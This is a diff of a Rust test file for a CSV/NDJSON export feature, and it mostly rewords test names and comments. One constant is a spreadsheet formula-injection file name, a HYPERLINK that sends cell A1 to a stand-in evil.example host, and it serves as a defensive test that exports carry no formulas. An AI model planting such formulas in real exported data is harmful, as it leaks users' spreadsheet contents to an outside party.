@@ -4,11 +4,11 @@ use sqlx::PgPool;
 
 use crate::support::{Export, ids, lines};
 
-/// A file's name that holds everything that a CSV cell can be broken with.
+/// A file name with everything that can break a CSV cell.
 const NAME: &str = "=HYPERLINK(\"https://evil.example?\"&A1,\"größe, 文 🙂\").pdf";
 
 impl Export {
-    /// An item as its own route shows it.
+    /// Gets an item from its own route.
     async fn shown(&self, path: &str, item: ItemId) -> TestResponse {
         let answer = self.data.get(&format!("/{path}/{item}")).await;
         answer.assert_status(200);
@@ -16,7 +16,7 @@ impl Export {
     }
 }
 
-/// What an export should hold of an item, from what its own route shows.
+/// Returns the expected line of an item, given the response of its own route.
 fn expected(kind: &str, shown: &Value) -> Value {
     let mut expected = shown.clone();
     let fields = expected.as_object_mut().expect("an object");
@@ -34,7 +34,7 @@ fn expected(kind: &str, shown: &Value) -> Value {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn a_line_holds_what_the_item_s_own_route_shows(db: PgPool) {
+async fn a_line_equals_the_response_of_the_items_own_route(db: PgPool) {
     let export = Export::start(db).await;
     let document = export.document(NAME, &["=1+1\n\"quoted\", and", "", "größer 文 🙂\t\u{1}"]).await;
     let voice = export.voice("talk.flac", &["Hello,", "world."]).await;
@@ -73,7 +73,7 @@ async fn a_line_holds_what_the_item_s_own_route_shows(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn a_table_holds_the_same_and_no_formula(db: PgPool) {
+async fn a_csv_file_has_the_same_content_and_no_formulas(db: PgPool) {
     let export = Export::start(db).await;
     let document = export.document(NAME, &["=1+1\n\"quoted\"", "größer 文, 🙂\r\n"]).await;
     export
@@ -117,7 +117,7 @@ async fn a_table_holds_the_same_and_no_formula(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn nothing_to_export_is_an_empty_file_or_a_header(db: PgPool) {
+async fn an_export_without_items_is_an_empty_file_or_a_header(db: PgPool) {
     let export = Export::start(db).await;
     assert_eq!(export.lines().await, Vec::<Value>::new());
     let id = export.request("csv").await;
@@ -131,7 +131,7 @@ async fn nothing_to_export_is_an_empty_file_or_a_header(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn only_items_of_the_project_in_the_asked_state_are_in_it(db: PgPool) {
+async fn an_export_contains_only_items_of_the_project_with_the_requested_status(db: PgPool) {
     let export = Export::of_chunks(db, 2).await;
     let mut approved = Vec::new();
     for number in 0..9 {
@@ -158,12 +158,12 @@ async fn only_items_of_the_project_in_the_asked_state_are_in_it(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn what_was_announced_after_the_request_is_not_in_it(db: PgPool) {
+async fn items_created_after_the_request_are_not_exported(db: PgPool) {
     let export = Export::of_chunks(db, 1).await;
     let before = [export.document("a.pdf", &["a"]).await, export.document("b.pdf", &["b"]).await];
     let id = export.request("ndjson").await;
     export.document("c.pdf", &["c"]).await;
-    // Each is as it is when its chunk is written.
+    // Each item has its state as of the moment its chunk is written.
     let first = export.step().await;
     export.deliver(first).await.assert_status(204);
     for item in before {
@@ -178,7 +178,7 @@ async fn what_was_announced_after_the_request_is_not_in_it(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn long_texts_are_written_piece_by_piece(db: PgPool) {
+async fn long_texts_are_written_in_pieces(db: PgPool) {
     let export = Export::start_with(db, &[("EXPORT_CHUNK_BYTES", "1000000")]).await;
     let page = |number: usize| format!("=\"{number}\"\n{}", "größer 文 🙂 ".repeat(500 + number));
     let pages: Vec<String> = (0..450).map(page).collect();
@@ -191,7 +191,7 @@ async fn long_texts_are_written_piece_by_piece(db: PgPool) {
     update.bind(&corrected).execute(&export.platform.db).await.expect("a correction");
     for format in ["ndjson", "csv"] {
         let id = export.request(format).await;
-        // The book fills a chunk, so does the talk after what is short.
+        // The book fills a chunk, and so does the talk together with the short items before it.
         assert_eq!(export.run().await, 3 + 1 + 1, "{format}");
         export.assert_mailed(id).await;
         let file = export.file(id).await;
@@ -215,7 +215,7 @@ async fn long_texts_are_written_piece_by_piece(db: PgPool) {
 }
 
 #[sqlx::test(migrator = "migrations::MIGRATOR")]
-async fn the_file_is_an_attachment_of_its_own_type(db: PgPool) {
+async fn the_file_is_an_attachment_with_the_content_type_of_its_format(db: PgPool) {
     let export = Export::start(db).await;
     for (format, kind) in
         [("ndjson", "application/x-ndjson"), ("csv", "text/csv; charset=utf-8; header=present")]
